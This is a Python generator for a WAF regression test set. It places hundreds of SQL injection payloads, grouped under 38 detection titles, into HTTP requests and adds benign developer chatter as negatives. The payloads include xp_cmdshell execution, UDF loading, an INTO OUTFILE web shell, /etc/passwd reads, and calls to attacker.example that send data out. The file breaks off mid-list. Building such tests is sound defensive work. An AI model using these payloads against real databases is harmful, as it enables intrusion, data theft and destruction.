"""Blind set "thirtyfifth": SQL injection as a rule author writes the positive regression tests of a rule, one
sub-family per detection title, with benign requests that carry the same words innocently.

The angle: a rule author's positive tests. For each of 38 detection titles (libinjection, common database
names, sleep / benchmark blind tests and their conditional forms, MSSQL code execution, skipfish's integer
overflows, conditional injection, charset switches and MSSQL DoS, MATCH AGAINST / MERGE / EXECUTE IMMEDIATE,
basic injection strings, pg_sleep / WAITFOR / SHUTDOWN, MongoDB operators, stored procedures and functions, UDF
and structure manipulation, concatenation and SQL file reads, MySQL in-line comments, injection testing
probes, SQL operators, tautologies, authentication bypass in three parts and split across a query, comment-
and space-obfuscation with backticks, chained statements, classic probings, comments with char() / chr(),
ALTER and UNION, special-character runs, comment sequences, hex literals, ticks and backticks, query
termination, JSON operators and functions of MySQL / PostgreSQL / SQLite, and scientific-notation tricks) the
canonical attack the title names, then the variants a good rule with that title must still catch: other
keywords of the family, other quoting, casing, whitespace and comment substitutes, and encodings a server
decodes. Each payload goes into three consecutive places of twelve, rotating: a query argument, a form body, a
JSON body, a cookie, the User-Agent, the Referer, another request header, a query parameter name, an XML body,
a multipart field, a multipart filename and the URL path. Category "sqli"; `sub` is a short slug of the title.

Benign: developers pasting the same SQL words into Slack (each also saved as a profile bio), documentation
links, prose, and names, street addresses and searches that share the titles' keywords (O'Brien, Union
Street, Sleep Number, "merge two tables").

Authorship and independence: written for this repository from general knowledge of SQL injection and from
the detection titles alone, without reading the repository's WAF rules, any ruleset's rule text or its
regression tests, other generators' lists or public payload lists. Measured once on the unchanged code and
never edited after seeing what the WAF blocks. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose
from .records import print_records

NAME = "thirtyfifth"

# sub slug -> payloads (each the positive test of a rule with that title)
TITLES: dict[str, list[str]] = {
    # SQL Injection Attack Detected via libinjection
    "libinjection": [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1;DROP TABLE users",
        "' or 1=1 limit 1 -- -+",
        "1) AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)--",
        "-1' UniOn SeLeCt 1,2,3#",
        "1' AND 1=CONVERT(int,@@version)--",
        "'; EXEC xp_cmdshell('dir')--",
        "x' AND extractvalue(1,concat(0x7e,database()))--",
    ],
    # SQL Injection Attack: Common DB Names Detected
    "common-db-names": [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' UNION SELECT name FROM master..sysdatabases--",
        "1 AND (SELECT COUNT(*) FROM mysql.user)>0",
        "' union select sql from sqlite_master--",
        "1 UNION SELECT tablename FROM pg_catalog.pg_tables--",
        "' UNION SELECT banner FROM v$version--",
        "1 and exists(select * from msysobjects)",
        "' UNION SELECT null, name FROM sys.objects--",
        "1' AND (SELECT owner FROM all_tables WHERE rownum=1)='SYS",
        "1 union select schema_name from INFORMATION_SCHEMA.SCHEMATA",
        "'; select usename, passwd from pg_shadow--",
        "1 and 1=(select count(*) from sysibm.systables)",
    ],
    # Detects blind sqli tests using sleep() or benchmark()
    "blind-sleep-benchmark": [
        "1 AND SLEEP(5)",
        "' OR sleep(10)#",
        "1' AND BENCHMARK(5000000,MD5('a'))--",
        "1 or benchmark(10000000,sha1(1))",
        "sleep(5)#",
        "1'+(select*from(select(sleep(20)))a)+'",
        "1 AND SLEEP /**/ (5)",
        "(select sleep(3))",
        "' || SLEEP(5) || '",
        "1' and SlEeP(0x5)-- -",
    ],
    # Detects SQL benchmark and sleep injection attempts including conditional queries
    "sleep-benchmark-conditional": [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' OR IF(SUBSTRING(version(),1,1)='5',BENCHMARK(2000000,MD5(1)),0)--",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "1' AND IF(ASCII(SUBSTR(database(),1,1))>97,SLEEP(3),1)-- ",
        "if(now()=sysdate(),sleep(6),0)",
        "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
        "1;SELECT CASE WHEN (username='admin') THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users--",
        "1 and if((select count(*) from users)>0,benchmark(1e7,rand()),1)",
        "IF (1=1) WAITFOR DELAY '0:0:5'--",
    ],
    # Detects MSSQL code execution and information gathering attempts
    "mssql-exec-info": [
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1; exec xp_cmdshell 'whoami'",
        "'; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--",
        "1;EXEC master.dbo.xp_dirtree '\\\\attacker.example\\share'--",
        "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--",
        "1 union select @@servername, @@version--",
        "'; EXEC sp_makewebtask 'C:\\inetpub\\wwwroot\\x.html', 'select * from users'--",
        "1;DECLARE @q varchar(99);SET @q='\\\\attacker.example\\a';EXEC master..xp_fileexist @q--",
        "'; exec sp_addsrvrolemember 'hacker','sysadmin'--",
        "1 AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin'))--",
        "';EXEC sp_OACreate 'WScript.Shell',@o OUT--",
    ],
    # Looking for integer overflow attacks (skipfish values and the 3.0.00738585072007e-308 crash)
    "integer-overflow": [
        "2.2250738585072007e-308",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "4294967295",
        "4294967296",
        "-2147483649",
        "2147483648",
        "-2147483648",
        "1e309",
        "0x100000000",
        "18446744073709551616",
        "9223372036854775808",
    ],
    # Detects conditional SQL injection attempts
    "conditional": [
        "1' AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1--",
        "' or case when substring(password,1,1)='a' then 1 else 0 end=1--",
        "1 AND IF(1=1,1,(SELECT 1 UNION SELECT 2))",
        "1' AND IIF(1=1,1,0)=1--",
        "' OR (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)=1--",
        "1 ORDER BY (CASE WHEN (SELECT 1)=1 THEN id ELSE name END)",
        "1' and ifnull(ascii(substr(user(),1,1)),0)>64#",
        "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
        "'||(select decode(substr(user,1,1),'S',1,0) from dual)||'",
    ],
    # Detects MySQL charset switch and MSSQL DoS attempts
    "charset-switch-dos": [
        "1; SET NAMES 'gbk'--",
        "%bf%27 OR 1=1-- ",
        "'; SET CHARACTER SET utf8--",
        "1;SET CHARSET ascii;--",
        "1 AND convert(password using latin1)='a'",
        "1 union select 1 collate utf8_bin--",
        "'; WAITFOR DELAY '23:59:59'--",
        "1; while 1=1 begin select 1 end--",
        "';SHUTDOWN WITH NOWAIT;--",
        "'; alter database tempdb modify file (name=tempdev, size=999999)--",
    ],
    # Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    "match-merge-execute": [
        "1' AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)--",
        "' OR match(password) against ('a*' in boolean mode)#",
        "1 AND MATCH (a,b) AGAINST ('x' WITH QUERY EXPANSION)",
        "1; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "';merge users as t using (select 1 as id) as s on t.id=s.id when matched then delete;--",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
        "1';BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--",
        "x'||dbms_xmlquery.getxml('declare pragma autonomous_transaction; begin execute immediate "
        "''create user x identified by y''; end;')||'",
        "1;EXECUTE('SEL'+'ECT * FROM users')--",
    ],
    # Looking for basic sql injection. Common attack string for mysql, oracle and others
    "basic-common": [
        "1' union all select null,null,null--",
        "1; DROP TABLE users--",
        "' ; DELETE FROM sessions;--",
        "1 ORDER BY 10--",
        "' AND 1=0 UNION SELECT @@version,2--",
        "1' GROUP BY columnnames HAVING 1=1--",
        "'; INSERT INTO users(name,role) VALUES('x','admin')--",
        "1 AND ROWNUM=1",
        "' union select user from dual--",
        "1;TRUNCATE TABLE audit_log--",
    ],
    # Detects Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    "pgsleep-waitfor-shutdown": [
        "1; SELECT pg_sleep(10)--",
        "' || pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "'));select pg_sleep(7);--",
        "'; WAITFOR DELAY '0:0:10'--",
        "1 waitfor delay '00:00:05'",
        "'; waitfor time '23:59:59'--",
        "1;SHUTDOWN--",
        "'; shutdown with nowait--",
        "1; select pg_terminate_backend(pid) from pg_stat_activity--",
    ],
    # Finds basic MongoDB SQL injection attempts
    "mongodb": [
        '{"$ne": null}',
        "password[$ne]",
        '{"$gt": ""}',
        "'; return true; var x='",
        '{"$where": "sleep(5000)"}',
        "this.password.match(/.*/)//",
        "1'; db.users.drop(); '",
        '{"username": {"$regex": "^adm"}}',
        "role[$nin][]",
        '{"$or": [{}, {"a": "a"}]}',
        "db.getCollection('users').find({})",
        "admin' || '1'=='1",
    ],
    # Detects MySQL and PostgreSQL stored procedure/function injections
    "stored-procedure": [
        "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS "
        "'/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE 'c' STRICT;--",
        "'; DROP PROCEDURE IF EXISTS p; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; DO $$ BEGIN PERFORM pg_sleep(5); END $$;--",
        "1; select routine_name from information_schema.routines--",
        "'; CALL sys.ps_setup_enable_instrument('wait')--",
        "1;create function f() returns trigger as $$ begin return null; end $$ language plpgsql--",
        "' AND 1=(SELECT COUNT(*) FROM mysql.proc)--",
        "1; COPY (SELECT '') TO PROGRAM 'id'--",
        "1;select lo_import('/etc/passwd')--",
    ],
    # Detects MySQL UDF injection and other data/structure manipulation attempts
    "udf-manipulation": [
        "1; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'--",
        "' UNION SELECT sys_eval('id')--",
        "1; SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'--",
        "' union select unhex('7f454c46') into dumpfile '/usr/lib/mysql/plugin/udf.so'--",
        "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "'; ALTER TABLE users ADD COLUMN pwned int--",
        "1; UPDATE users SET password='x' WHERE 1=1--",
        "'; RENAME TABLE users TO users_old--",
        "1; DROP DATABASE app--",
        "1 union select load_file(0x2f6574632f706173737764)",
    ],
    # Detects concatenated basic SQL injection and SQLLFI attempts
    "concat-sqllfi": [
        "' union select load_file('/etc/passwd')--",
        "1 UNION SELECT LOAD_FILE('C:\\\\boot.ini')",
        "'+(select load_file('/etc/hosts'))+'",
        "' || (SELECT password FROM users LIMIT 1) || '",
        "1' + 'a' + (select @@version) + '",
        "admin'||'",
        "1' and 1=0 union select concat(username,0x3a,password) from users#",
        "'||utl_http.request('http://attacker.example/'||(select user from dual))||'",
        "1;select pg_read_file('/etc/passwd',0,200)--",
    ],
    # MySQL in-line comment detected
    "mysql-inline-comment": [
        "1 /*!50000UNION*/ SELECT 1,2--",
        "/*!SELECT*/ 1",
        "1'/*!AND*/1=1-- -",
        "1 /*!12345union*/ /*!12345select*/ 1,2,3",
        "' /*!or*/ 1=1#",
        "1/*!00000and*/sleep(3)",
        "1 /*! UNION */ /*! SELECT */ user()",
        "/*!32302 1/0, */ 1",
        "'/*!50000%55nIOn*/ /*!50000%53eLeCt*/ 1--",
    ],
    # SQL Injection Attack: Common Injection Testing Detected
    "injection-testing": [
        "'",
        "1'",
        '"',
        "';",
        "`",
        "test'",
        "'abc",
        '1"',
        "''",
        "';--",
        '"""',
    ],
    # SQL Injection Attack: SQL Operator Detected
    "sql-operator": [
        "1 RLIKE (SELECT 1)",
        "1' XOR 1=1#",
        "' OR username REGEXP '^a'--",
        "1 <=> 1",
        "a' SOUNDS LIKE 'a",
        "1 NOT BETWEEN 0 AND 2",
        "1' || 1 IS NOT NULL--",
        "x' LIKE BINARY 'x",
        "1 && 1=1",
        "1 div 0",
        "' or 1 !=2 --",
    ],
    # SQL Injection Attack: SQL Tautology Detected
    "tautology": [
        "' or '1'='1",
        "1 OR 1=1",
        "' OR 'a'='a",
        '" or ""="',
        "x' OR 2>1--",
        "1' or 'abc' like 'abc",
        "' OR 1<2 #",
        "admin' or 5=5 /*",
        "1 or true",
        "' or 'x'<>'y",
        "1 AND 1=1",
        "') or ('1'='1",
    ],
    # SQL Injection Attack
    "sqli-attack": [
        "1; SELECT * FROM users",
        "' union select password from admins where id=1--",
        "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
        "'; update users set is_admin=1 where name='me'--",
        "1 HAVING 1=1--",
        "(SELECT user FROM mysql.user LIMIT 1)",
        "1 union select 1 into @x--",
        "' and 1 in (select min(name) from sysobjects where xtype='U')--",
        "1;select case when 1 then 2 end--",
        "1 OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY UNION SELECT 1",
    ],
    # Detects basic SQL authentication bypass attempts 1/3
    "auth-bypass-1": [
        "admin'--",
        "admin' #",
        "admin'/*",
        "' or 1=1--",
        "admin' or '1'='1'--",
        "' OR ''='",
        '" or 1=1#',
        'admin")--',
        "1' or 1=1 limit 1#",
        "') or '1'='1'--",
    ],
    # Detects MySQL comment-/space-obfuscated injections and backtick termination
    "comment-space-obfuscation": [
        "1/**/UNION/**/SELECT/**/1,2,3",
        "1'/**/OR/**/1=1#",
        "SELECT/*avoid-spaces*/password/**/FROM/**/users",
        "1%0bunion%0bselect%0b1",
        "1'#\nOR 1=1",
        "1'--\n union select 1",
        "1\tunion\tselect\t1",
        "1)union(select(1),(2))#",
        "users` where 1=1#",
        "admin`--",
        "1'/*x*/or/*y*/'1'/*z*/='1",
    ],
    # Detects chained SQL injection attempts 1/2
    "chained-1": [
        "1; SELECT 1; SELECT 2",
        "'; DROP TABLE users; --",
        "1); DELETE FROM logs WHERE (1=1",
        "x'; INSERT INTO admins VALUES('x','y');--",
        "1;update users set role='admin';--",
        "'; select * from users where ''='",
        "1; shutdown; --",
        "';declare @x int;--",
        "1 ; create user x identified by 'y' ;",
    ],
    # Detects basic SQL authentication bypass attempts 2/3
    "auth-bypass-2": [
        "' or 'x'='x",
        "admin' AND 1=1--",
        "'=' 'or'",
        "' OR 1 --",
        "'or''='",
        "' or \"a\"=\"a",
        "') or true--",
        "1' or '1' = '1' /*",
        "or 1=1",
        "' or username is not null or username = '",
    ],
    # Detects MySQL comments, conditions and ch(a)r injections
    "comments-conditions-char": [
        "1' AND CHAR(97)=CHAR(97)--",
        "' or chr(65)||chr(66)='AB",
        "1 union select char(60,63,112,104,112)#",
        "admin'/*",
        "1'#",
        "' AND 1=1 -- -",
        "1 OR 0x61=CHAR(97)",
        "1 and char(0x41)='A'/*",
        "concat(char(39),user(),char(39))",
        "' || CHR(83)||CHR(89)||CHR(83) --",
    ],
    # Detects chained SQL injection attempts 2/2
    "chained-2": [
        "1 UNION SELECT 1 FROM dual WHERE 1=1 ORDER BY 1",
        "'; exec('select 1')--",
        "1' ; select * from users limit 1 offset 0 --",
        "); drop table t; --",
        "' UNION ALL SELECT NULL,NULL,NULL FROM information_schema.columns WHERE table_name='users'--",
        "1 ; truncate sessions",
        "'; begin declare @s varchar(8000) select @s = 0x73656c656374 exec(@s) end--",
        "1;(select 1 where 1=1)--",
    ],
    # Detects classic SQL injection probings 1/3
    "classic-probing-1": [
        "' and 1=2--",
        "1' and '1'='2",
        '") or ("1"="1',
        "1 and 1=0",
        "' or ''-'",
        "' or '' '",
        "1'||'1",
        "' AND 'x'='y",
        '1" AND "1"="1',
        "')) or (('x'='x",
    ],
    # Detects basic SQL authentication bypass attempts 3/3
    "auth-bypass-3": [
        "admin' || '",
        "' || 1=1--",
        "anything' OR 'x'='x'#",
        "admin'-- -",
        "'=0--+",
        "admin' and 'a' like 'a",
        '"="',
        "' OR 'something' like 'some%'",
        "admin') -- ",
        "x' or 1 in (1)--",
    ],
    # Detects basic SQL injection based on keyword alter or union
    "alter-union": [
        "1 UNION SELECT 1",
        "' union all select username from users--",
        "1;ALTER TABLE users DROP COLUMN password--",
        "'; alter user root identified by 'x'--",
        "1 UnIoN DiStInCt SeLeCt 1",
        "-1 union(select 1)",
        "1';ALTER LOGIN sa WITH PASSWORD='x'--",
        "union select * from users",
        "1 ALTER DATABASE app SET OFFLINE",
        "0 union/**/select 1,2",
    ],
    # Detects classic SQL injection probings 2/3
    "classic-probing-2": [
        "1 order by 1--",
        "' group by 1--",
        "1' having 1=1--",
        "1 UNION SELECT NULL--",
        "' and substring(@@version,1,1)=5--",
        "1 AND ascii(lower(substring((select top 1 name from sysobjects),1,1)))>0",
        "' AND CHAR(65)='A",
        "1' and length(database())>1--",
        "1 AND ORD(MID(user(),1,1))>64",
    ],
    # Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    "special-chars-exceeded": [
        "'))));--'\"\"\";#@~~~!!!",
        "')))||||((('\"\"\"'--",
        "1'\"`;)(--#/**/;;;!!~~",
        "$$$'''\"\"\"```;;;---",
        "[[[{{{(((''')))}}}]]]",
        "'||'|'||'|'||'|'||'|",
        "';--;--;--;--;--;--",
        "!@#$%^&*()_+-=[]{};':\"|,.<>/?~`",
    ],
    # SQL Comment Sequence Detected
    "comment-sequence": [
        "1 --",
        "admin'-- ",
        "x /* comment */",
        "1#",
        "'; --",
        "1 /*",
        "*/ or 1=1 /*",
        "1' -- -",
        "foo';#",
        "1--+",
        "name'%23",
    ],
    # SQL Hex Encoding Identified
    "hex-encoding": [
        "1 UNION SELECT 0x61646d696e",
        "' or username=0x61646d696e--",
        "SELECT UNHEX('726f6f74')",
        "1 and 0x31=0x31",
        "x'; exec(0x73656c65637420404076657273696f6e)--",
        "1 union select x'41424344'",
        "0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e",
        "1 AND HEX(user())=0x726F6F74",
        "where name = 0x70617373776f7264",
    ],
    # SQLi bypass attempt by ticks or backticks detected (the title appears twice in the list: one sub)
    "ticks-backticks": [
        "admin`--",
        "`union`select`1",
        "1`or`1`=`1",
        "select`password`from`users`",
        "' or `id`=1#",
        "1 AND `a`.`b`=1",
        "`;drop table users;`",
        "1\u00b4 or 1=1--",
        "admin\u2019 OR \u20191\u2019=\u20191",
        "1\u2018 or \u2018a\u2019=\u2018a",
        "users`where`1=1",
        "`admin`#",
    ],
    # SQL Authentication bypass (split query)
    "auth-split-query": [
        "admin';",
        "admin'; --",
        'root"; --',
        "admin';#",
        "'; select 1; --",
        "admin' ;/*",
        "x');--",
        'admin");',
        "user'; SELECT '1",
    ],
    # SQLi query termination detected
    "query-termination": [
        "1';",
        "x');--",
        '1";--',
        "abc'); DROP TABLE x;--",
        "';--",
        "1)) ;",
        "test'\t;",
        'foo" ; #',
        "1'); --",
    ],
    # JSON-Based SQL Injection (JSON operators and functions of MySQL, PostgreSQL, SQLite)
    "json-sqli": [
        "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1",
        "' OR '{\"a\":2}' -> '$.a' = 2--",
        "1' AND json_keys((SELECT CONVERT((SELECT CONCAT(0x7e,version())) USING utf8)))--",
        "' or '{\"b\":2}'::jsonb @> '{\"b\":2}'::jsonb--",
        "1 AND '{\"x\":1}'::jsonb ? 'x'",
        "' OR json_valid('{}')--",
        "1 union select json_object('u',user,'p',password) from users--",
        "' OR json_extract(data,'$.role')='admin'--",
        "1' AND '[1,2]' ->> '$[0]' = '1",
        "1 and jsonb_typeof('{}')='object'",
        "' OR json_array_length('[1,2,3]')>1--",
        "1 AND JSON_CONTAINS(roles,'\"admin\"')",
    ],
    # MySQL Scientific Notation payload detected (1.e(...), 0.1e1union)
    "scientific-notation": [
        "1.e(ascii(1.e(substring(1.e(select password from users),1,1))))",
        "0.1e1union select 1",
        "1.e1union select 1,2",
        "1e0union select user()",
        "0.0e1 union select 1",
        "1.e(select 1)",
        "'1.e(ascii 1.e(substring(1.e(select user()),1,1)))='",
        "1 union select 2.e0from dual",
        "1.E1UNION SELECT 1",
        "-1.e(1)union select version()",
    ],
}

PLACES = ["query", "form", "json", "cookie", "ua", "referer", "header", "qname", "xml", "multipart",
          "filename", "path"]
PARAMS = ["id", "q", "username", "password", "sort", "filter", "search", "category", "order", "user_id"]
BOUNDARY = "----WebKitFormBoundaryq7Rz0JmT2nB4xKcE"


def _hv(value: str) -> str:
    """A header value as a client sends it: control characters other than TAB percent-encoded."""
    return "".join(c if c == "\t" or ord(c) >= 0x20 else f"%{ord(c):02X}" for c in value)


def _with_headers(rec: dict[str, Any], **extra: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _xml(value: str) -> dict[str, Any]:
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><email>a@example.org</email>'
            f"<name>{escape(value)}</name></user>")
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "text/xml"}}


def _multipart(name: str, value: str, filename: str | None = None) -> dict[str, Any]:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\nt0k3n\r\n']
    if filename is None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
    else:
        fn = filename.replace('"', "%22").replace("\r", " ").replace("\n", " ")
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="avatar"; filename="{fn}"\r\n'
                     "Content-Type: image/png\r\n\r\nPNG-bytes\r\n")
    parts.append(f"--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": "/admin/users/search", "body": "".join(parts),
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def place(where: str, name: str, value: str) -> dict[str, Any]:
    """One payload in one of the twelve places."""
    if where == "json":
        try:
            doc = json.loads(value)   # a Mongo operator object goes in as an object, as a client sends it
        except ValueError:
            doc = value
        return _json("/api/users", {"email": "a@example.org", name: doc if isinstance(doc, dict) else value})
    if where in ("query", "form"):
        return _place(where, name, value)
    if where == "cookie":
        return _place("cookie", name, value)
    if where == "header":
        return _place("header", name, _hv(value))
    if where == "ua":
        return _with_headers(_get("/api/users?page=1"), **{"User-Agent": _hv(value)})
    if where == "referer":
        return _with_headers(_get("/api/users?page=1"), Referer=_hv("https://shop.example.com/products?id=" + value))
    if where == "qname":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if where == "xml":
        return _xml(value)
    if where == "multipart":
        return _multipart(name, value)
    if where == "filename":
        return _multipart(name, "", filename=value)
    return _get("/api/users/" + urllib.parse.quote(value, safe=""))


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for sub, payloads in TITLES.items():
        for p in payloads:
            for k in range(3):
                where = PLACES[(i + k) % len(PLACES)]
                name = PARAMS[(i + k) % len(PARAMS)]
                n += 1
                yield {**place(where, name, p), "id": f"{NAME}-sqli-{sub}-{n:04d}", "category": "sqli",
                       "sub": sub, "placement": where, "payload": p}
            i += 1


# Benign: developers pasting SQL words into Slack (also saved as a bio), documentation links, prose,
# names, addresses and searches sharing the titles' keywords.
SLACK_TEXTS = [
    "the nightly job does SELECT count(*) FROM orders and it takes 40s now, can someone look at the plan?",
    "heads up: I'm running the ALTER TABLE on invoices tonight, expect the admin page to be slow for a bit",
    "we should use UNION ALL instead of UNION there, we don't need the dedupe and it's way faster",
    "the retry loop sleeps 5 seconds between attempts, that's why the test takes a minute",
    "ran the benchmark again: p99 went from 120ms to 85ms after the index on users.email",
    "anyone know why information_schema queries are so slow on the replica?",
    "pg_sleep is only in the chaos test fixture, don't worry, prod never calls it",
    "the WAITFOR in the old stored proc was a hack from 2019, I removed it in the migration",
    "MongoDB $regex queries without an anchor will scan the whole collection, add ^ at the start",
    "the Mongo filter uses $in with the list of team ids, should be fine up to a few thousand",
    "Postgres jsonb operators (->> and @>) are great for the settings column, see the PR",
    "we store prefs as JSON and read them with JSON_EXTRACT in MySQL 8, works ok",
    "MERGE statements in SQL Server have weird race conditions, use an upsert with a lock hint",
    "the full-text search uses MATCH ... AGAINST in boolean mode, that's why + and - work",
    "Oracle folks: EXECUTE IMMEDIATE is dynamic SQL, please use bind variables with it",
    "the DBA said xp_cmdshell is disabled on every instance since the audit, good",
    "the integer overflow was at 2147483647, we changed the column to bigint",
    "the float parser bug with 2.2250738585072011e-308 was fixed in PHP ages ago",
    "don't forget to escape the quote in O'Brien when you build the fixture by hand, better use params",
    "the ORDER BY on a computed column kills the index, move it to a generated column",
    "GROUP BY with HAVING count(*) > 1 finds the duplicate emails, 14 rows",
    "I added a CASE WHEN in the report query for the null regions",
    "our migration tool wraps every DDL in a transaction except CREATE INDEX CONCURRENTLY",
    "the CHAR(36) ids in the legacy table should become UUID columns",
    "we hex-encode the API key hash in the logs, 64 chars, nothing secret",
    "the SQLite file uses json_extract for the metadata column, fine for the CLI",
    "please don't DROP TABLE in a migration without a backup first, lesson learned last year",
    "the load test runs the benchmark script 10 times and keeps the median",
    "TRUNCATE on the audit log is forbidden, we partition and detach instead",
    "anyone seen 'MySQL server has gone away' after the charset change to utf8mb4?",
    "SET NAMES utf8mb4 is in the connection init, the emoji problem is gone",
    "the stored procedure for monthly billing calls two functions, I documented both",
    "LOAD DATA INFILE is how we import the CSV from the vendor, it's 10x faster than inserts",
    "I used SELECT ... INTO OUTFILE on my laptop for the export, not on the server",
    "the tautology warning from the linter was about `if true and true`, I simplified it",
    "the scientific notation in the CSV (1.5e3) breaks the parser, need to cast to decimal",
    "the shutdown hook flushes the pool before exit, otherwise the last batch is lost",
    "the comment in the SQL file starts with -- and the formatter moved it, ignore the diff",
    "is the union of the two sets empty? then the feature flag is off for everyone",
    "sleep well everyone, the release is tomorrow at 10",
    "Union Station meetup is on Thursday, who's coming?",
    "I'll merge the PR after lunch, select whichever reviewer is free",
    "the delete button on the user page asks for confirmation now",
    "we need to update the insert size on the form, customers paste long notes",
    "our benchmark against last quarter looks good, 12% better conversion",
    "I'm out for a doctor's appointment, the sleep study results are in",
    "can someone drop the link to the runbook here?",
    "we should alter the onboarding checklist, step 3 is obsolete",
    "the match against Berlin was a draw, 1-1",
    "execute the plan as written, the customer signed yesterday",
    "it's either 1 or 2 sprints, depends on the design review",
    "O'Reilly has a good book on SQL performance, I'll bring it to the office",
    "the new hire's name is D'Angelo, please add him to #eng",
    "the backtick in markdown makes code, like `SELECT 1`",
    "the hash symbol # starts a comment in the YAML, that's why the value vanished",
    "where do we keep the DB names for staging and prod? in the vault, under db/",
    "the admin user was renamed to ops-admin in the directory, update your bookmarks",
    "the password reset mail is slow again, sendgrid status page says degraded",
    "for the sleep() in the test, use the fake clock instead, it's in conftest",
    "if (retries > 3) { backoff(); } else { retry(); } is the whole logic, nothing clever",
    "the report says 'users where created_at > last month' is 1,204 rows",
    "the version() call in the health check tells us which Postgres minor we run",
    "concat of first and last name is done in the view, not in the app",
    "the char limit on the bio is 500, the API returns 422 beyond that",
    "the dual-write period ends on Friday, then we select from the new table only",
    "table names are snake_case, columns too, the linter enforces it",
    "the 'order' column is a reserved word, always quote it in raw SQL",
    "we use the ORM, raw SQL only in the reporting module with bound parameters",
]

PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-boolean.html",
    "https://dev.mysql.com/doc/refman/8.0/en/json-search-functions.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-altertable.html",
    "https://www.postgresql.org/docs/current/sql-merge.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.sqlite.org/json1.html",
    "https://www.sqlite.org/lang_select.html",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/Integer_overflow",
    "https://en.wikipedia.org/wiki/Tautology_(logic)",
    "https://stackoverflow.com/questions/1/how-to-select-rows-where-column-is-null",
    "https://github.com/acme/reports/blob/main/sql/monthly_union.sql",
    "https://www.example.com/search?q=union+select+furniture&page=2",
    "https://maps.example.com/place/Union+Street+12,+Glasgow",
    "https://shop.example.com/products?category=sleep&sort=price_asc",
    "https://news.example.org/2024/03/benchmark-results-for-postgres-16",
    "https://blog.example.dev/posts/why-we-dropped-mongodb",
    "https://www.sleepnumber.com/",
    "https://jobs.example.com/positions?title=database+administrator&location=O%27Fallon",
]

PROSE = [
    "Please select the union representative for the meeting on Friday.",
    "The union will hold an election where every member has one vote.",
    "Our benchmark shows that sleep quality improves with a regular schedule.",
    "The children must sleep before 9 or they will be tired at school.",
    "Order by Thursday and delivery is free; delete the item from your cart if you change your mind.",
